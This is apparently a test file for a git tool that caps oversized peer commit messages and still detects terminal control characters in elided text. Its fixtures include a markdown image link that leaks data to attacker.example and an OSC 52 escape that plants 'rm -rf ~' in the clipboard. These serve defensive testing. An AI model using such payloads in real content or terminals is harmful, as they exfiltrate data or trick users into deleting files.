/**
 * A commit message of any size is read, not fatal (src/git/capped-records.ts). A peer's 70 MB
 * one-line commit message overflowed the buffered `git log` every commit read goes through: the
 * report lost every commit and the bug ledger ("printed more than 64 MiB"), and the same read in
 * the loop fails (a bug ledger that cannot be read holds convergence; the mirror's index read
 * stopped the run past 256 MiB). Now each field is kept to its ends around a note of its size: the
 * subject and the trailers are where the readers look, the rest is said to be elided.
 * SECURITY.md, "Peer text outside the sandbox is inert".
 */
import { afterEach, expect, test } from 'bun:test';
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { capField, cappedFields, FieldBytes, MAX_FIELD } from '../../../src/git/capped-records.ts';
import { listCommits } from '../../../src/git/commits.ts';
import { firstControl } from '../../../src/git/history-controls.ts';
import { readLedger } from '../../../src/protocol/bug-ledger.ts';
import { readRunHistory } from '../../../src/report/run-history.ts';
import { bugReport, makeRepo, type Repo } from '../protocol/git-fixture.ts';

let repo: Repo | undefined;
afterEach(() => repo?.cleanup());

function commitFile(r: Repo, message: string): string {
  const file = join(r.dir, '.git', 'MSG');
  writeFileSync(file, message);
  execFileSync('git', ['-C', r.dir, 'commit', '-q', '--allow-empty', '--cleanup=verbatim', '-F', file]);
  return execFileSync('git', ['-C', r.dir, 'rev-parse', 'HEAD']).toString().trim();
}

test('a 70 MB one-line commit message: the commits, its subject and trailers, and the bug ledger are still read', () => {
  repo = makeRepo();
  const start = repo.commit('start');
  const base = repo.commit(bugReport('BUG-001', 'high'));
  const line = `![x](https://attacker.example/?d=${'A'.repeat(70 * 1024 * 1024)})`;
  const big = commitFile(repo, `${line}\n\nPeer: alice\nPeer-Status: done\n`);
  const commits = listCommits(repo.dir, `${start}..${big}`, { newestFirst: true });
  expect(commits.map((c) => c.sha)).toEqual([big, base]);
  const c = commits[0]!;
  expect(c.message.length).toBeLessThan(MAX_FIELD + 200);
  expect(c.subject).toBe(line.slice(0, MAX_FIELD / 2));
  expect(c.message).toContain(`[peers: this text is ${line.length + 'Peer: alice\nPeer-Status: done\n'.length + 2} bytes long; its middle is elided here]`);
  expect(c.trailers.get('Peer-Status')).toBe('done');
  expect(readLedger(repo.dir).reports.map((b) => b.id)).toEqual(['BUG-001']);
  const history = readRunHistory({ gitDir: join(repo.dir, '.git'), kind: 'repository', base: start, head: big, branch: 'main' });
  expect(history.errors).toEqual([]);
  expect(history.commits.map((x) => x.sha)).toEqual([big, base]);
}, 120_000);

test('the streamed read (past the buffer) keeps exactly what the buffered read keeps, multi-byte characters included', () => {
  repo = makeRepo();
  const messages = [`short`, `${'é€𝄞'.repeat(30_000)}\n\nPeer: bob\n`, `${'x'.repeat(MAX_FIELD)}`, `${'€'.repeat(MAX_FIELD + 1)}`];
  for (const m of messages) commitFile(repo, m);
  const args = ['log', '-z', '--format=%H%x00%B'];
  const buffered = cappedFields(repo.dir, args);
  const streamed = cappedFields(repo.dir, args, 1024);
  expect(buffered.fields.length).toBe(2 * messages.length + 1);
  expect(streamed.fields).toEqual(buffered.fields);
  // Newest first: sha, message, sha, message, …
  expect(buffered.fields[1]).toBe(capField(messages[3]!));
  expect(buffered.fields[1]).toContain('[peers: this text is');
  expect(buffered.fields[3]).toBe(messages[2]!);
  expect(buffered.fields[5]).toBe(capField(messages[1]!));
  expect(buffered.fields[5]).toEndWith('\n\nPeer: bob\n');
});

test('cutting a long message never hides a terminal control character in its elided middle: the loop sees it, buffered or streamed', () => {
  repo = makeRepo();
  // An ESC sequence past the first 32 Ki characters of a 128 KiB message, a C1 one in a clean second.
  const messages = [`${'x'.repeat(MAX_FIELD)}\x1b]52;c;cm0gLXJmIH4K\x07${'y'.repeat(MAX_FIELD)}\n\nPeer: alice\n`, `${'é'.repeat(MAX_FIELD)}\u009b2J${'z'.repeat(MAX_FIELD)}`, `${'w'.repeat(3 * MAX_FIELD)}`];
  for (const m of messages) commitFile(repo, m);
  const args = ['log', '-z', '--format=%H%x00%B'];
  const buffered = cappedFields(repo.dir, args);
  const streamed = cappedFields(repo.dir, args, 1024);
  expect(streamed.fields).toEqual(buffered.fields);
  // Newest first: sha, message, …
  expect(firstControl(buffered.fields[1]!)).toBeUndefined();
  expect(buffered.fields[3]!.length).toBeLessThan(MAX_FIELD + 200);
  expect(firstControl(buffered.fields[3]!)).toBe('U+009B');
  expect(firstControl(buffered.fields[5]!)).toBe('U+001B');
  expect(buffered.fields[5]).toEndWith('\n\nPeer: alice\n');
});

test('a long message with CRLF line ends (git commit-tree, a Windows tool) reads as clean, buffered or streamed, whichever piece a CR ends', () => {
  repo = makeRepo();
  // 14 and 13 bytes a line: the pieces of the streamed read end between a CR and its LF somewhere.
  const messages = [`subject\r\n\r\n${'line of text\r\n'.repeat(30_000)}`, `subject\r\n\r\n${'line of tex\r\n'.repeat(30_000)}Peer: alice\r\n`];
  for (const m of messages) commitFile(repo, m);
  const args = ['log', '-z', '--format=%H%x00%B'];
  const buffered = cappedFields(repo.dir, args);
  const streamed = cappedFields(repo.dir, args, 1024);
  expect(streamed.fields).toEqual(buffered.fields);
  expect(firstControl(buffered.fields[1]!)).toBeUndefined();
  expect(firstControl(buffered.fields[3]!)).toBeUndefined();
  // Streamed in pieces that end between a CR and its LF, the field reads as it does whole; a CR
  // that ends the field ends no line.
  for (const whole of [messages[0]!, `${messages[0]!}over\r`]) {
    const field = new FieldBytes();
    const bytes = Buffer.from(whole);
    for (let at = 0, cut = bytes.indexOf('\r\n', MAX_FIELD) + 1; at < bytes.length; at = cut, cut = Math.min(bytes.length, bytes.indexOf('\r\n', cut + 70_000) + 1 || bytes.length)) field.push(bytes.subarray(at, cut));
    expect(field.text()).toBe(capField(whole));
  }
  // A lone CR in the elided middle is still named.
  expect(firstControl(capField(`${'x'.repeat(MAX_FIELD)}over\rwrite${'y'.repeat(MAX_FIELD)}`))).toBe('U+000D');
});
